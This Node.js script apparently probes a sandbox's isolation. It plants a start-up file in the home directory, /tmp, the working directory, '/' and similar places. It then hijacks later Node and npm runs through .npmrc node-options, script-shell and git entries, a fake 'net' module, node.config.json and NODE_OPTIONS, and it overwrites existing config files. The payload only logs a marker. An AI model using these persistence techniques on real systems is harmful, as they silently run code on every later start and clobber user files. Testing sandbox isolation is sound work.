const fs = process.getBuiltinModule("fs");
const os = process.getBuiltinModule("os");
const { join } = process.getBuiltinModule("path");
const MARK = "planted-at-start-up";
console.log("TRIED");
if (globalThis[MARK]) console.log("REACHED a later start");
const places = [os.homedir(), os.tmpdir(), process.cwd(), "/tmp", "/submission", "/build", "/channel", "/"];
const write = (file, text) => {
  try {
    if (fs.existsSync(file)) console.log("REACHED what an earlier test left,", file);
    fs.mkdirSync(join(file, ".."), { recursive: true });
    fs.writeFileSync(file, text);
  } catch {}
};
const code = `globalThis["${MARK}"] = true; console.log("REACHED by start-up file");`;
for (const place of new Set(places)) {
  try {
    fs.chmodSync(place, 0o755);
  } catch {}
  const evil = join(place, "planted_start.cjs");
  write(evil, code);
  write(join(place, ".npmrc"), `node-options=--require=${evil}\nscript-shell=${evil}\ngit=${evil}\n`);
  write(join(place, "node_modules/net/index.js"), code);
  write(join(place, "node.config.json"), JSON.stringify({ nodeOptions: { import: [evil] } }));
  write(join(place, ".node_repl_history"), code);
  process.env.NODE_OPTIONS = `--require=${evil}`;
}
process.env.NODE_PATH = places.join(":");
process.env.NODE_EXTRA_CA_CERTS = process.env.NODE_REDIRECT_WARNINGS = "/tmp/planted";
